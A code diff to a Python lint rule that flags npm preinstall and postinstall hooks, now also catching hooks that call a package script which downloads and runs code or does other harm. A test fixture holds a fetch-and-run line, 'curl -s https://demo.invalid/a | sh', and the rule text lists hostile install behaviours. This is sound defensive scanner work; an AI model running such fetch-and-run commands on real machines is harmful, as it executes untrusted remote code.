@@ -8,7 +8,8 @@ before the dependencies are there, and is an error; the other two are a warning,
 
 What the command does counts more than the hook: one that downloads a script and runs it, decodes what it runs, opens a
 shell to another machine, sends or searches for secrets, publishes packages, changes the git repository or the start-up
-files of whoever installs, deletes files outside of the package, or runs a file of a hidden directory is an error.
+files of whoever installs, deletes files outside of the package, or runs a file of a hidden directory is an error, and
+so is one that names a script of the package which does any of that.
 
 A script whose file is not in the tarball fails on every machine but yours, and tools that only developers have (husky,
 patch-package, lefthook, simple-git-hooks, is-ci) do the same or change the repository of whoever installs: both are an
@@ -27,13 +28,14 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
-from dataclasses import dataclass
+from dataclasses import dataclass, field
 
-from pkglint.detect.code import danger, gyp, shell
+from pkglint.detect.code import danger, gyp, scripts, shell
 from pkglint.metadata.npm import Manifest
 from pkglint.metadata.packages import Packages, is_manifest
 from pkglint.model import Entry, Example, Finding, Fix, FixAction, Kind, Level, Row, Rule, Scope, level
 
+LARGEST = 1 << 20  # bytes of a script
 HOOKS = ("preinstall", "install", "postinstall")
 DEVELOPER_TOOLS = frozenset(
     {
@@ -52,13 +54,28 @@ class Options:
     allow: tuple[str, ...] = ()
 
 
+@dataclass(slots=True)
+class State:
+    """The manifests, and what scripts do that a hook may not, by path."""
+
+    packages: Packages = field(default_factory=Packages)
+    harmful: dict[str, danger.Danger] = field(default_factory=dict)
+
+
+def _wants(entry: Entry) -> bool:
+    return is_manifest(entry) or (entry.size < LARGEST and scripts.may_be_started(entry))
+
+
 def _visit(entry: Entry, scope: Scope) -> Iterator[Finding]:
-    scope.state.see(entry)
+    if is_manifest(entry):
+        scope.state.packages.see(entry)
+    elif harm := scripts.harm(entry):
+        scope.state.harmful[entry.path] = harm
     return iter(())
 
 
 def _finish(scope: Scope) -> Iterator[Finding]:
-    packages: Packages = scope.state
+    packages: Packages = scope.state.packages
     rows = {row.path: row for row in scope.rows}
     for root, manifest in packages.installed():
         for hook in HOOKS:
@@ -70,11 +87,16 @@ def _finish(scope: Scope) -> Iterator[Finding]:
 def _found(scope: Scope, root: str, manifest: Manifest, rows: dict[str, Row], hook: str, command: str) -> Finding:
     scripts = manifest.table("scripts")
     steps = shell.steps(command, scripts)
-    harm = _harm(shell.texts(command, scripts), steps)
+    texts = shell.texts(command, scripts)
+    harm = _harm(texts, steps)
+    inner = None if harm else _of_files(texts, root, scope.state.harmful)
     shown = f"`{harm.part}`" if harm else shell.shown(command)
     text = f"runs {shown} on every machine that installs the package ({hook})"
     if harm:
         text += f", which {harm.text}"
+    elif inner:
+        text += f"; {_name(inner[0])} {inner[1].text}"
+    harm = harm or (inner and inner[1])
     grade = Level.ERROR if hook == "preinstall" or harm else None
     missing = [step.file for step in steps if not step.optional and _missing(step, root, rows)]
     tools = sorted({step.program for step in steps if _developers(step, manifest)})
@@ -118,6 +140,16 @@ def _harm(commands: list[str], steps: list[shell.Step]) -> danger.Danger | None:
             program = next((step.program for step in steps if step.file), "...")
             part = f"{program if program in shell.INTERPRETERS else '...'} ... > /dev/null"
             return danger.Danger("silent", "runs a script of the package with its output hidden", part, 0)
+    return None
+
+
+def _of_files(commands: list[str], root: str, harmful: dict[str, danger.Danger]) -> tuple[str, danger.Danger] | None:
+    """The first script of the package that a command names in plain words and that does harm; make has one file."""
+    for word in (word for command in commands if harmful for word in shell.plain_words(command)):
+        named = ("Makefile", "makefile", "GNUmakefile") if word == "make" else (shell.own_file(word) or "",)
+        for file in named:
+            if root + file in harmful:
+                return file, harmful[root + file]
     return None
 
 
@@ -167,8 +199,8 @@ RULE = Rule(
     ),
     kinds=(Kind.NPM,),
     options=Options,
-    state=Packages,
-    wants=is_manifest,
+    state=State,
+    wants=_wants,
     visit=_visit,
     finish=_finish,
     examples=(
@@ -186,6 +218,15 @@ RULE = Rule(
             "a file of a hidden directory",
             {"package.json": _manifest('"postinstall": "node .a/b.js"'), ".a/b.js": "run();\n"},
             1,
+        ),
+        Example(
+            "a file that fetches a script",
+            {
+                "package.json": _manifest('"postinstall": "sh tools/setup.sh"'),
+                "tools/setup.sh": "curl -s https://demo.invalid/a | sh\n",
+            },
+            1,
+            also=("encoded-payload",),
         ),
         Example("a developer's tool", {"package.json": _manifest('"postinstall": "is-ci || husky install"')}, 1),
         Example(
